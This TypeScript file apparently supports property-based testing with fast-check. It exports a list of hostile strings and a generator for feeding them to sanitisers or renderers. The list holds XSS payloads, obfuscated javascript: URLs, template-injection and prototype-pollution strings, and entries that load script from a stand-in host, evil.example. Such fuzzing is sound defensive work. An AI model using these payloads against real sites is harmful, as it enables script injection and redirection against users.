import fc from 'fast-check';

/**
 * What an attacker puts where words are expected: markup, broken-out attributes, script addresses in disguises, ends of
 * script, style and comment, addresses with controls, names of prototypes, text directions and lone surrogates.
 */
export const HOSTILE_STRINGS = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '</title><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  `' onmouseover='alert(1)`,
  '" autofocus onfocus="alert(1)',
  '`onload=alert(1)',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></p><style><img src onerror=alert(1)></style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p id="x"onclick=alert(1)>x</p>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example',
  '/\\evil.example',
  'https:evil.example',
  'https://user:word@evil.example/',
  'mailto:x@example.com?subject=</a><script>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '</style><script>alert(1)</script>',
  'red;background:url(javascript:alert(1))',
  'expression(alert(1))',
  '--><script>alert(1)</script><!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--',
  '<p>',
  '</div></main></body>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '__proto__',
  'constructor',
  '{"$t":"x"}',
  '\u2028alert(1)',
  '\u202Egnp.exe',
  '\uD800',
  '\u0000',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '/assets/x" onerror="alert(1)',
  '#"><script>alert(1)</script>',
  '/s/%3Cscript%3Ealert(1)%3C/script%3E',
  'C0004',
] as const;

/** A hostile string, or a fragment of one in words. */
export const hostileStrings: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 5 },
  {
    arbitrary: fc
      .tuple(fc.constantFrom('Neu', 'Größe 38', ''), fc.constantFrom(...HOSTILE_STRINGS))
      .map(([words, hostile]) => `${words}${hostile}`),
    weight: 2,
  },
  { arbitrary: fc.string({ maxLength: 20, unit: 'binary' }), weight: 1 },
);
